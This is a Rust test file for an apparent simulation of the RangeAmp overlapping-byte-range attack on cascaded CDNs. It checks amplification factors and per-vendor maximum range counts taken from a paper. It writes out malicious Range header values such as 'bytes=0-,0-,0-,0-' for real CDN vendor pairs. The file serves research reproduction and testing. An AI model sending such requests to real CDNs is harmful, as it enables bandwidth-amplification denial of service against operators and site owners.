//! End-to-end OBR integration tests: the 11 cascaded combinations of
//! Table V, max-n solving, traffic asymmetry, and the attacker's cost
//! controls.

use rangeamp::attack::{obr_combos, ObrAttack};
use rangeamp::{Testbed, TARGET_HOST, TARGET_PATH};
use rangeamp_cdn::Vendor;
use rangeamp_http::{Request, Response, StatusCode};

/// Paper Table V (FCDN, BCDN, max n).
const TABLE5_N: [(&str, &str, usize); 11] = [
    ("CDN77", "Akamai", 5455),
    ("CDN77", "Azure", 64),
    ("CDN77", "StackPath", 5455),
    ("CDNsun", "Akamai", 5456),
    ("CDNsun", "Azure", 64),
    ("CDNsun", "StackPath", 5456),
    ("Cloudflare", "Akamai", 10750),
    ("Cloudflare", "Azure", 64),
    ("Cloudflare", "StackPath", 10750),
    ("StackPath", "Akamai", 10801),
    ("StackPath", "Azure", 64),
];

fn vendor(name: &str) -> Vendor {
    Vendor::ALL
        .into_iter()
        .find(|v| v.name() == name)
        .expect("vendor exists")
}

#[test]
fn max_n_matches_table5_within_two_percent() {
    for (fcdn, bcdn, paper_n) in TABLE5_N {
        let n = ObrAttack::new(vendor(fcdn), vendor(bcdn)).max_n();
        let ratio = n as f64 / paper_n as f64;
        assert!(
            (0.98..=1.02).contains(&ratio),
            "{fcdn}→{bcdn}: max n {n} vs paper {paper_n}"
        );
    }
}

#[test]
fn all_eleven_combos_amplify() {
    for (fcdn, bcdn) in obr_combos() {
        // Modest n keeps the test quick; amplification ≈ n for a 1 KB
        // resource.
        let report = ObrAttack::new(fcdn, bcdn).overlapping_ranges(32).run();
        let factor = report.amplification_factor();
        assert!(factor > 16.0, "{fcdn}→{bcdn}: factor {factor:.1} at n=32");
    }
}

#[test]
fn amplification_scales_linearly_with_n() {
    // §IV-C: "response traffic in the fcdn-bcdn connection is nearly
    // proportional to the number of overlapping ranges".
    let f32 = ObrAttack::new(Vendor::Cloudflare, Vendor::Akamai)
        .overlapping_ranges(32)
        .run()
        .amplification_factor();
    let f128 = ObrAttack::new(Vendor::Cloudflare, Vendor::Akamai)
        .overlapping_ranges(128)
        .run()
        .amplification_factor();
    let ratio = f128 / f32;
    assert!((3.5..=4.5).contains(&ratio), "expected ≈4×, got {ratio:.2}");
}

#[test]
fn bcdn_origin_traffic_is_independent_of_n() {
    // §IV-C: "when the target resource is fixed, response traffic in the
    // bcdn-origin connection is always roughly the same".
    let small = ObrAttack::new(Vendor::StackPath, Vendor::Akamai)
        .overlapping_ranges(8)
        .run();
    let large = ObrAttack::new(Vendor::StackPath, Vendor::Akamai)
        .overlapping_ranges(512)
        .run();
    assert_eq!(small.server_to_bcdn_bytes, large.server_to_bcdn_bytes);
    assert!(large.bcdn_to_fcdn_bytes > 50 * small.bcdn_to_fcdn_bytes);
}

#[test]
fn paper_headline_cloudflare_akamai_full_run() {
    // §I: "an attacker is able to force specific nodes of these two CDNs
    // to transfer traffic over 12MB with just one multi-range request".
    let report = ObrAttack::new(Vendor::Cloudflare, Vendor::Akamai).run();
    assert!(report.n >= 10_000);
    // "over 12MB" — the paper's own measurement is 12 456 915 B.
    assert!(
        report.bcdn_to_fcdn_bytes > 12_000_000,
        "fcdn-bcdn carried {} bytes",
        report.bcdn_to_fcdn_bytes
    );
    assert!(report.server_to_bcdn_bytes < 2048);
}

#[test]
fn azure_bcdn_is_capped_at_64_parts() {
    let report = ObrAttack::new(Vendor::Cloudflare, Vendor::Azure).run();
    assert_eq!(report.n, 64);
    let factor = report.amplification_factor();
    assert!(
        (30.0..=80.0).contains(&factor),
        "paper: ≈53, got {factor:.1}"
    );
}

#[test]
fn attacker_cost_is_capped_by_receive_window() {
    let report = ObrAttack::new(Vendor::StackPath, Vendor::Akamai).run();
    // The attacker accepted ≤ 1 KB while the victim link moved megabytes.
    assert!(report.attacker_bytes <= 1024);
    assert!(report.bcdn_to_fcdn_bytes > 10 * 1024 * 1024);
}

#[test]
fn non_vulnerable_bcdn_defuses_the_cascade() {
    // Fastly coalesces multi-range replies (absent from Table III), so a
    // Cloudflare→Fastly cascade must not amplify.
    let bed = Testbed::new(Vendor::Cloudflare, Vendor::Fastly);
    let req = Request::get(TARGET_PATH)
        .header("Host", TARGET_HOST)
        .header("Range", "bytes=0-,0-,0-,0-")
        .build();
    let resp = bed.request(&req);
    assert_eq!(resp.status(), StatusCode::PARTIAL_CONTENT);
    let middle = bed.victim_segment().stats().response_bytes;
    let origin = bed.origin_segment().stats().response_bytes;
    assert!(
        middle < 3 * origin,
        "no inflation expected: {middle} vs {origin}"
    );
}

#[test]
fn cdnsun_fcdn_requires_nonzero_leading_range() {
    // Table II: CDNsun only relays multi-range sets whose first range
    // starts at ≥ 1, so the attack uses bytes=1-,0-,...,0-.
    let attack = ObrAttack::new(Vendor::CdnSun, Vendor::Akamai).overlapping_ranges(16);
    let report = attack.run();
    assert!(report.amplification_factor() > 8.0);
    assert_eq!(report.exploited_case, "bytes=1-,0-,...,0-");
}

#[test]
fn origin_with_ranges_disabled_replies_200_to_the_bcdn() {
    let bed = Testbed::new(Vendor::Cloudflare, Vendor::Akamai);
    let req = Request::get(TARGET_PATH)
        .header("Host", TARGET_HOST)
        .header("Range", "bytes=0-,0-")
        .build();
    bed.request(&req);
    let full = bed.origin().handle(&req);
    assert_eq!(full.status(), StatusCode::OK, "origin must ignore ranges");
    let stats = bed.origin_segment().stats();
    assert_eq!(stats.responses, 1, "the BCDN fetched once: {stats:?}");
    assert_eq!(
        stats.response_bytes,
        full.wire_len(),
        "the BCDN receives the origin's complete 200"
    );
}

#[test]
fn obr_parts_carry_correct_content() {
    // Even the attack traffic is well-formed multipart/byteranges.
    let bed = Testbed::new(Vendor::Cloudflare, Vendor::Akamai);
    let req = Request::get(TARGET_PATH)
        .header("Host", TARGET_HOST)
        .header("Range", "bytes=0-,0-,0-")
        .build();
    let resp = bed.request(&req);
    let content_type = resp.headers().get("content-type").expect("multipart");
    let boundary = content_type.split("boundary=").nth(1).expect("boundary");
    let parts = rangeamp_http::multipart::parse(resp.body().as_bytes(), boundary)
        .expect("well-formed multipart");
    assert_eq!(parts.len(), 3);
    let full = bed
        .origin()
        .store()
        .get(TARGET_PATH)
        .expect("resource")
        .full_body();
    for part in parts {
        assert_eq!(part.body.as_bytes(), full.as_bytes());
    }
}

#[test]
fn obr_rope_body_equals_its_flattened_copy() {
    // The BCDN's n-part body is a rope over the cached representation;
    // flattening it must change neither the body nor the wire bytes.
    for (fcdn, bcdn) in obr_combos() {
        let attack = ObrAttack::new(fcdn, bcdn);
        let bed = Testbed::new(fcdn, bcdn);
        let req = Request::get(TARGET_PATH)
            .header("Host", TARGET_HOST)
            .header("Range", attack.range_case().header(64).to_string())
            .build();
        let resp = bed.request(&req);
        assert_eq!(resp.status(), StatusCode::PARTIAL_CONTENT, "{fcdn}→{bcdn}");
        assert!(resp.body().chunks().len() > 1, "{fcdn}→{bcdn}: not a rope");

        let flat = rangeamp_http::Body::from(resp.body().as_bytes().to_vec());
        assert_eq!(flat.chunks().len(), 1);
        assert_eq!(resp.body(), &flat, "{fcdn}→{bcdn}");
        let flattened = resp
            .headers()
            .iter()
            .fold(Response::builder(resp.status()), |b, (name, value)| {
                b.header(name, value)
            })
            .body(flat)
            .build();
        assert_eq!(resp, flattened, "{fcdn}→{bcdn}");
        assert_eq!(resp.wire_len(), flattened.wire_len());
        assert_eq!(
            resp.to_wire_bytes(),
            flattened.to_wire_bytes(),
            "{fcdn}→{bcdn}"
        );
    }
}
